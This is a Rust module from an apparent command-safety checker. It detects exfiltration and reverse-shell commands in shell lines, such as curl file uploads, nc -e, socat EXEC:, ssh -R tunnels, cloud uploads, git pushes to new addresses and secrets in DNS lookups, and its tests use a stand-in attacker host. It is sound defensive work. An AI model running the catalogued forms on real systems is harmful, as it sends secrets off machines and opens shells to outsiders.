//! `exfiltration`: sending files or secrets off the machine — curl/wget uploads and
//! POST-a-file flags, nc/socat/telnet/ssh fed a file, scp/rsync/sftp to a remote host, file
//! contents interpolated into a URL or a DNS name, uploads to object storage (`aws s3 cp`,
//! `gsutil`, `rclone` …), `git push` to an address, `ssh -R` tunnels. Uploads to the loopback
//! host stay local.
//! Reverse shells (`nc -e`, `socat EXEC:`) are `remote_exec`.

use super::super::Family;
use super::super::command::{Spec, parse_args};
use super::super::effects::Effects;
use super::super::normalize::{Arg, Input};

fn is_network(name: &str) -> bool {
    matches!(
        name,
        "curl"
            | "wget"
            | "fetch"
            | "aria2c"
            | "http"
            | "https"
            | "xh"
            | "xhs"
            | "host"
            | "dig"
            | "nslookup"
            | "drill"
            | "ping"
            | "ping6"
            | "nc"
            | "ncat"
            | "netcat"
            | "socat"
            | "telnet"
            | "ssh"
            | "scp"
            | "sftp"
            | "rsync"
            | "ftp"
            | "tftp"
            | "lftp"
            | "whois"
            | "traceroute"
            | "openssl"
            | "mail"
            | "mailx"
            | "sendmail"
            | "mutt"
            | "git"
            | "lwp-request"
            | "GET"
            | "POST"
            | "aws"
            | "gsutil"
            | "gcloud"
            | "rclone"
            | "azcopy"
            | "s3cmd"
            | "az"
    )
}

/// Options of the object-storage CLIs that take a separate value (`--profile prod`), so the
/// value is not mistaken for a file.
const CLOUD_VALUE_OPTS: &[&str] = &[
    "profile",
    "region",
    "endpoint-url",
    "acl",
    "storage-class",
    "exclude",
    "include",
    "content-type",
    "cache-control",
    "content-encoding",
    "metadata",
    "sse",
    "sse-kms-key-id",
    "expected-size",
    "grants",
    "page-size",
    "output",
    "project",
    "billing-project",
    "config",
    "transfers",
    "checkers",
    "filter",
    "filter-from",
    "exclude-from",
    "include-from",
    "log-file",
    "bwlimit",
    "account-name",
    "container-name",
];

/// `aws s3 cp .env s3://b/`, `gsutil -m rsync -r . gs://b`, `rclone sync . drive:backup`,
/// `az storage blob upload --file x …`: a copy whose source is local and whose destination is
/// remote. The source comes first, so a local operand before the first remote one is an upload;
/// downloads (`aws s3 cp s3://b/x .`) and remote-to-remote copies stay allowed.
fn cloud_upload(name: &str, args: &[Arg]) -> bool {
    if name == "az" {
        let word = |f: fn(&str) -> bool| args.iter().any(|a| f(&a.text));
        return word(|w| w == "storage")
            && word(|w| matches!(w, "upload" | "upload-batch" | "sync"));
    }
    let p = parse_args(args, &Spec::gnu("", CLOUD_VALUE_OPTS));
    let operands: Vec<&str> = p.operands.iter().map(|a| a.text.as_str()).collect();
    let Some(verb) = operands.iter().position(|w| {
        matches!(
            *w,
            "cp" | "mv" | "sync" | "rsync" | "copy" | "copyto" | "move" | "moveto" | "put"
        )
    }) else {
        return false;
    };
    operands[verb + 1..]
        .iter()
        .position(|w| is_remote(w))
        .is_some_and(|k| k > 0)
}

/// An address off this machine: `https://host/…`, `user@host:path`.
fn off_machine(address: &str) -> bool {
    is_remote(address) && !is_loopback_url(address)
}

/// `git push URL …`, `git push user@host:repo.git`, or a push to a remote that this script
/// pointed at an address (`git remote add x URL; git push x`): the repository goes somewhere
/// the workspace's own configuration does not name.
fn git_push_to_address(w: &mut dyn Effects, args: &[Arg]) -> bool {
    let Some((i, sub)) = super::destruction::git_subcommand(args) else {
        return false;
    };
    let rest = &args[i + 1..];
    // `git -c remote.origin.url=ADDRESS push`: the remote is redirected for this command.
    for pair in args[..i].windows(2) {
        if pair[0].text == "-c" {
            note_remote_url(w, &pair[1].text.replacen('=', " ", 1));
        }
    }
    match sub {
        "config" => {
            let p = parse_args(rest, &Spec::gnu("f", &["file", "blob", "type"]));
            let ops: Vec<&str> = p.operands.iter().map(|a| a.text.as_str()).collect();
            if let [key, url, ..] = ops[..] {
                note_remote_url(w, &format!("{key} {url}"));
            }
            false
        }
        "push" => {
            let p = parse_args(
                rest,
                &Spec::gnu("o", &["push-option", "receive-pack", "exec", "repo"]),
            );
            let repo = p
                .values(None, &["repo"])
                .next()
                .or_else(|| p.operands.first().map(|a| a.text.as_str()));
            repo.is_some_and(|r| off_machine(r) || w.addressed_remotes().contains(r))
                || (repo.is_none() && w.addressed_remotes().contains("origin"))
        }
        // `git remote add [-f] [-t b] NAME URL`, `git remote set-url [--push] NAME URL`.
        "remote" => {
            let p = parse_args(rest, &Spec::gnu("tm", &["track", "master", "mirror"]));
            let ops: Vec<&str> = p.operands.iter().map(|a| a.text.as_str()).collect();
            if let [verb, name, url, ..] = ops[..]
                && matches!(verb, "add" | "set-url")
                && off_machine(url)
            {
                w.addressed_remotes_mut().insert(name.to_string());
            }
            false
        }
        _ => false,
    }
}

/// `remote.NAME.url ADDRESS` (a `git config` key and value): the remote now points there.
fn note_remote_url(w: &mut dyn Effects, key_value: &str) {
    let Some((key, url)) = key_value.split_once(' ') else {
        return;
    };
    let key = key.to_ascii_lowercase();
    if let Some(name) = key.strip_prefix("remote.").and_then(|k| {
        k.strip_suffix(".url")
            .or_else(|| k.strip_suffix(".pushurl"))
    }) && off_machine(url)
    {
        w.addressed_remotes_mut().insert(name.to_owned());
    }
}

const CURL: Spec = Spec::gnu(
    "AbcCdDeEFHKmoPQrtTuUwxXYyz",
    &[
        "data",
        "data-ascii",
        "data-binary",
        "data-raw",
        "data-urlencode",
        "json",
        "form",
        "form-string",
        "upload-file",
        "header",
        "request",
        "output",
        "user",
        "user-agent",
        "referer",
        "cookie",
        "cookie-jar",
        "config",
        "cert",
        "max-time",
        "proxy",
        "write-out",
        "range",
        "connect-timeout",
        "retry",
        "url",
        "resolve",
        "connect-to",
        "cacert",
        "key",
        "dump-header",
        "interface",
        "limit-rate",
        "max-filesize",
        "oauth2-bearer",
        "variable",
        "aws-sigv4",
        "trace",
        "trace-ascii",
        "stderr",
        "output-dir",
        "unix-socket",
        "expect100-timeout",
        "url-query",
        "proxy-header",
        "mail-from",
        "mail-rcpt",
    ],
);

/// A denial as a value: the family and the rest of the sentence after "`<command>` ".
type Denial = (Family, &'static str);

const SENDS_FILES: Denial = (Family::Exfiltration, "sends local files off the machine");

pub(super) fn check(w: &mut dyn Effects, name: &str, args: &[Arg], stdin: &Input, shown: &str) {
    if !is_network(name) {
        return;
    }
    if let Some((family, what)) = judge(w, name, args, stdin) {
        w.deny(family, format!("`{shown}` {what}."));
    }
}

/// What a network client's command line sends, as a denial.
fn judge(w: &mut dyn Effects, name: &str, args: &[Arg], stdin: &Input) -> Option<Denial> {
    if name != "git" && args.iter().any(|a| a.taint.secret) {
        return Some((
            Family::Exfiltration,
            "puts file contents or environment values into a network request",
        ));
    }
    if sends_secret_env(name, args) {
        return Some((
            Family::Exfiltration,
            "sends a secret environment variable over the network",
        ));
    }
    let stdin_shell = matches!(stdin, Input::Stream(o) if o.taint.shell);
    if stdin_shell
        && matches!(
            name,
            "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl" | "ssh"
        )
    {
        return Some((Family::RemoteExec, "connects a shell to a remote host"));
    }
    let stdin_secret = match stdin {
        Input::File(p) => p != "/dev/null" && p != "/dev/zero",
        Input::Stream(o) => o.taint.secret || o.taint.env_secret || o.files_only,
        _ => false,
    };
    let proxied = w.proxy_env();
    match name {
        "curl" => curl(args, stdin_secret, proxied).then_some(SENDS_FILES),
        "wget" => wget_posts(args, proxied).then_some(SENDS_FILES),
        "http" | "https" | "xh" | "xhs" => httpie(args, stdin_secret).then_some(SENDS_FILES),
        "ftp" | "tftp" | "lftp" => ftp_puts(args, stdin, stdin_secret).then_some(SENDS_FILES),
        "nc" | "ncat" | "netcat" | "telnet" | "openssl" | "mail" | "mailx" | "sendmail"
        | "mutt" => stream_client(name, args, stdin_secret),
        "socat" => socat(args, stdin_secret),
        "ssh" => ssh(args, stdin_secret),
        "aws" | "gsutil" | "gcloud" | "rclone" | "azcopy" | "s3cmd" | "az" => {
            cloud_upload(name, args).then_some(SENDS_FILES)
        }
        "git" => git_push_to_address(w, args).then_some((
            Family::Exfiltration,
            "pushes the repository to an address this command line chose, not to a remote the workspace already had",
        )),
        "scp" => {
            let p = parse_args(args, &Spec::gnu("cFiJloPS", &[]));
            (p.operands.len() >= 2 && p.operands.last().is_some_and(|a| sends_off(&a.text)))
                .then_some(SENDS_FILES)
        }
        "rsync" => rsync_sends(args).then_some(SENDS_FILES),
        "sftp" => {
            let p = parse_args(args, &Spec::posix("BbcDFiJloPRS", &[]));
            (!p.operands.is_empty()).then_some(SENDS_FILES)
        }
        _ => None,
    }
}

/// `wget --post-file`, `--body-file` to a host off the machine.
fn wget_posts(args: &[Arg], proxied: bool) -> bool {
    let p = parse_args(
        args,
        &Spec::gnu(
            "OoaeiPTtwUYBdD",
            &[
                "post-file",
                "body-file",
                "output-document",
                "header",
                "user-agent",
            ],
        ),
    );
    let local = all_loopback(&p.operands) && !redirects_host(args) && !proxied;
    !local && (p.has_long("post-file") || p.has_long("body-file"))
}

/// `ftp host < cmds`, `tftp host -c put f`, `lftp -e 'put f' host`: commands that upload,
/// given on stdin or the command line.
fn ftp_puts(args: &[Arg], stdin: &Input, stdin_secret: bool) -> bool {
    let p = parse_args(args, &Spec::gnu("cepP", &[]));
    let puts = args.iter().any(|a| {
        a.text
            .split([' ', ';'])
            .any(|w| matches!(w, "put" | "mput" | "send" | "append"))
    });
    let stdin_puts = matches!(stdin, Input::Static(t) if t
        .split([' ', ';', '\n'])
        .any(|w| matches!(w, "put" | "mput" | "send" | "append")));
    !p.operands.is_empty() && (stdin_secret || puts || stdin_puts)
}

/// Clients that send their standard input to a host (`nc`, `telnet`, `openssl s_client`,
/// mailers): a reverse shell, or secrets and attachments sent off the machine.
fn stream_client(name: &str, args: &[Arg], stdin_secret: bool) -> Option<Denial> {
    // `nc localhost 6379 < cmds.txt`: the loopback host stays on the machine.
    let host = args
        .iter()
        .map(|a| a.text.as_str())
        .find(|t| !t.starts_with('-') && !t.chars().all(|c| c.is_ascii_digit()));
    let nc = matches!(name, "nc" | "ncat" | "netcat");
    if (nc || name == "telnet") && host.is_some_and(is_loopback_url) && !reverse_shell_nc(args) {
        return None;
    }
    if nc && reverse_shell_nc(args) {
        return Some((Family::RemoteExec, "hands a shell to a remote host"));
    }
    // `openssl x509`, `openssl dgst`: only `s_client` and friends open a connection.
    if name == "openssl"
        && !args
            .first()
            .is_some_and(|a| matches!(a.text.as_str(), "s_client" | "s_time" | "ocsp" | "s_server"))
    {
        return None;
    }
    let attaches = matches!(name, "mail" | "mailx" | "mutt")
        && args
            .iter()
            .any(|a| a.text == "-A" || a.text == "-a" || a.text.starts_with("--attach"));
    (stdin_secret || attaches).then_some(SENDS_FILES)
}

/// `socat`: a program connected to a host, or a file or secret stdin sent to one.
fn socat(args: &[Arg], stdin_secret: bool) -> Option<Denial> {
    let lower: Vec<String> = args.iter().map(|a| a.text.to_ascii_lowercase()).collect();
    if lower
        .iter()
        .any(|t| t.starts_with("exec:") || t.starts_with("system:"))
    {
        return Some((Family::RemoteExec, "connects a program to a remote host"));
    }
    let reads_file = lower.iter().any(|t| {
        t.starts_with("file:")
            || t.starts_with("open:")
            || t.starts_with("gopen:")
            || t.starts_with("create:")
    });
    let sends_stdin = stdin_secret
        && lower
            .iter()
            .any(|t| t == "-" || t.starts_with("stdin") || t.starts_with("stdio"));
    (reads_file || sends_stdin).then_some(SENDS_FILES)
}

/// `ssh -R` (a tunnel into this machine) or secrets on its standard input.
fn ssh(args: &[Arg], stdin_secret: bool) -> Option<Denial> {
    let p = parse_args(args, &Spec::posix("bcDEeFIiJLlmOoPpQRSWw", &[]));
    if p.values(Some('R'), &[]).next().is_some() {
        return Some((
            Family::Exfiltration,
            "opens a tunnel from a remote host into this machine",
        ));
    }
    (stdin_secret && !p.operands.is_empty()).then_some(SENDS_FILES)
}

/// `rsync` whose destination is off the machine.
fn rsync_sends(args: &[Arg]) -> bool {
    let p = parse_args(
        args,
        &Spec::gnu(
            "eBfMT",
            &[
                "rsh",
                "filter",
                "exclude",
                "include",
                "exclude-from",
                "include-from",
                "files-from",
                "password-file",
                "port",
                "rsync-path",
                "temp-dir",
                "compare-dest",
                "link-dest",
                "backup-dir",
                "suffix",
                "chmod",
                "out-format",
                "log-file",
                "bwlimit",
                "timeout",
                "contimeout",
            ],
        ),
    );
    p.operands.len() >= 2 && p.operands.last().is_some_and(|a| sends_off(&a.text))
}

/// A secret variable in a request body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data=…`) or
/// a looked-up name (`dig $TOKEN.x.example`). In an auth header, a user option or the URL of
/// an API it is the ordinary use of a token and stays allowed.
fn sends_secret_env(name: &str, args: &[Arg]) -> bool {
    const BODY: &[&str] = &[
        "-d",
        "--data",
        "--data-ascii",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--json",
        "-F",
        "--form",
        "--form-string",
        "--post-data",
        "--body-data",
        "--raw",
    ];
    let in_body = |k: usize| {
        let a = &args[k].text;
        let attached = BODY.iter().any(|o| {
            a.starts_with(&format!("{o}=")) || (o.len() == 2 && a.starts_with(o) && a.len() > 2)
        });
        attached
            || k.checked_sub(1)
                .is_some_and(|p| BODY.contains(&args[p].text.as_str()))
    };
    match name {
        "curl" | "wget" | "http" | "https" | "xh" | "xhs" => {
            (0..args.len()).any(|k| args[k].taint.env_secret && in_body(k))
        }
        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" => {
            args.iter().any(|a| a.taint.env_secret)
        }
        _ => false,
    }
}

/// Options that send a request somewhere other than the host in its URL (`--connect-to`,
/// `--resolve`, a proxy): a loopback URL is no longer local.
fn redirects_host(args: &[Arg]) -> bool {
    args.iter().any(|a| {
        let t = a.text.as_str();
        [
            "--connect-to",
            "--resolve",
            "--proxy",
            "--preproxy",
            "--socks",
            "--proxy1.0",
            "--doh-url",
        ]
        .iter()
        .any(|o| t.starts_with(o))
            || t == "-x"
            || (t.starts_with("-x") && !t.starts_with("--"))
            || t.contains("proxy=")
            || t.starts_with("use_proxy")
    })
}

fn curl(args: &[Arg], stdin_secret: bool, proxied: bool) -> bool {
    let p = parse_args(args, &CURL);
    if all_loopback(&p.operands) && !redirects_host(args) && !proxied {
        return false;
    }
    let data_longs = [
        "data",
        "data-ascii",
        "data-binary",
        "data-urlencode",
        "json",
    ];
    let data_file = p.values(Some('d'), &data_longs).any(|v| {
        let file = if let Some(f) = v.strip_prefix('@') {
            Some(f)
        } else {
            v.split_once('@')
                .filter(|(n, _)| !n.contains('='))
                .map(|(_, f)| f)
        };
        match file {
            Some("-") => stdin_secret,
            Some(_) => true,
            None => false,
        }
    });
    let form_file = p
        .values(Some('F'), &["form"])
        .any(|v| v.contains("=@") || v.contains("=<"));
    let upload = p.values(Some('T'), &["upload-file"]).any(|v| {
        if v == "-" || v == "." {
            stdin_secret
        } else {
            true
        }
    });
    // `-H @file` reads headers and `--url-query @file` a query from a file.
    let other_file = p
        .values(Some('H'), &["header", "url-query", "proxy-header"])
        .any(|v| v.len() > 1 && v.starts_with('@') || v.contains("=@"));
    data_file || form_file || upload || other_file
}

/// HTTPie request items that read a file: `@file` (the raw body), `field@file` (a form
/// upload), `field=@file` and `field:=@file` (a file's text or JSON as a field). Items follow
/// the optional method and the URL.
fn httpie(args: &[Arg], stdin_secret: bool) -> bool {
    let p = parse_args(
        args,
        &Spec::gnu(
            "aAsv",
            &[
                "auth",
                "auth-type",
                "session",
                "session-read-only",
                "output",
                "print",
                "pretty",
                "style",
                "verify",
                "cert",
                "cert-key",
                "proxy",
                "timeout",
                "max-redirects",
                "raw",
            ],
        ),
    );
    let mut ops = p.operands.iter().map(|a| a.text.as_str()).peekable();
    if ops
        .peek()
        .is_some_and(|m| !m.is_empty() && m.chars().all(|c| c.is_ascii_uppercase()))
    {
        ops.next();
    }
    // `:3000/x` is HTTPie's shorthand for localhost.
    if ops
        .next()
        .is_some_and(|url| url.starts_with(':') || is_loopback_url(url))
    {
        return false;
    }
    if stdin_secret || p.values(None, &["raw"]).any(|v| v.starts_with('@')) {
        return true;
    }
    ops.any(|item| {
        if item.len() > 1 && item.starts_with('@') {
            return true;
        }
        let Some(at) = item.find([':', '=', '@']) else {
            return false;
        };
        let rest = &item[at..];
        at > 0 && (rest.starts_with('@') || rest.starts_with("=@") || rest.starts_with(":=@"))
    })
}

/// Inline interpreter code that opens a network connection and reads files or the
/// environment: the program form of `curl -d @file`.
pub(crate) fn code_sends_data(code: &str) -> bool {
    code_uses_network(code) && READS.iter().any(|r| code.contains(r))
}

/// Inline code that fetches code and runs it: `exec(urlopen(…).read())`,
/// `eval(file_get_contents('https://…'))`, `perl -MLWP::Simple -e 'eval get(…)'`.
pub(crate) fn code_runs_download(code: &str) -> bool {
    code_uses_network(code)
        && [
            "exec(",
            "eval(",
            "eval ",
            "Function(",
            "instance_eval",
            "system(",
            "| sh",
            "| bash",
            "|sh",
            "|bash",
        ]
        .iter()
        .any(|r| code.contains(r))
}

/// Files and the environment, as inline code reads them.
const READS: &[&str] = &[
    "open(",
    "read_text",
    "read_bytes",
    "readFile",
    "File.read",
    "File.open",
    "IO.read",
    "file_get_contents",
    "fopen",
    "os.environ",
    "process.env",
    "ENV",
    "getenv",
    "io.open",
    "Deno.readFile",
    "Bun.file",
];

fn code_uses_network(code: &str) -> bool {
    const NETWORK: &[&str] = &[
        "http://",
        "https://",
        "urlopen",
        "urllib",
        "requests.",
        "http.client",
        "httplib",
        "socket",
        "fetch(",
        "http.request",
        "https.request",
        "net.connect",
        "Net::HTTP",
        "LWP::",
        "HTTP::Tiny",
        "IO::Socket",
        "TCPSocket",
        "curl_exec",
        "fsockopen",
        "smtplib",
        "ftplib",
        "paramiko",
    ];
    NETWORK.iter().any(|n| code.contains(n))
}

fn reverse_shell_nc(args: &[Arg]) -> bool {
    args.iter().any(|a| {
        let t = a.text.as_str();
        matches!(t, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
            || t.starts_with("--exec=")
            || t.starts_with("--sh-exec=")
            || (t.starts_with('-')
                && !t.starts_with("--")
                && t.len() > 2
                && (t.ends_with('e') || t.ends_with('c'))
                && t[1..].chars().all(|c| c.is_ascii_alphabetic()))
    })
}

/// A remote operand on another machine: the loopback host (`localhost:/tmp/`) stays here.
fn sends_off(text: &str) -> bool {
    is_remote(text) && !is_loopback_url(text)
}

/// `host:path`, `user@host:path`, `rsync://host/…`: a remote operand of scp/rsync.
pub(crate) fn is_remote(text: &str) -> bool {
    if text.contains("://") {
        return !text.starts_with("file://");
    }
    if text.starts_with(['/', '.', '~']) {
        return false;
    }
    match text.split_once(':') {
        Some((host, _)) => !host.is_empty() && !host.contains('/'),
        None => false,
    }
}

fn all_loopback(operands: &[&Arg]) -> bool {
    let urls: Vec<&&Arg> = operands.iter().filter(|a| !a.text.is_empty()).collect();
    !urls.is_empty() && urls.iter().all(|a| is_loopback_url(&a.text))
}

fn is_loopback_url(url: &str) -> bool {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    // `127.0.0.1.nip.io` resolves anywhere: only a literal address is the loopback.
    let loopback_v4 = host
        .parse::<std::net::Ipv4Addr>()
        .is_ok_and(|ip| ip.is_loopback() || ip.is_unspecified());
    host == "localhost" || loopback_v4 || host == "::1"
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_operands() {
        assert!(is_remote("attacker@example.org:~/loot"));
        assert!(is_remote("host:/tmp"));
        assert!(is_remote("rsync://host/mod"));
        assert!(!is_remote("./a:b"));
        assert!(!is_remote("/tmp/x"));
        assert!(!is_remote("dist"));
    }

    #[test]
    fn loopback_urls() {
        assert!(is_loopback_url("http://localhost:3000/api"));
        assert!(is_loopback_url("127.0.0.1:8080"));
        assert!(is_loopback_url("http://[::1]:80/"));
        assert!(!is_loopback_url("https://collector.example.net"));
    }
}
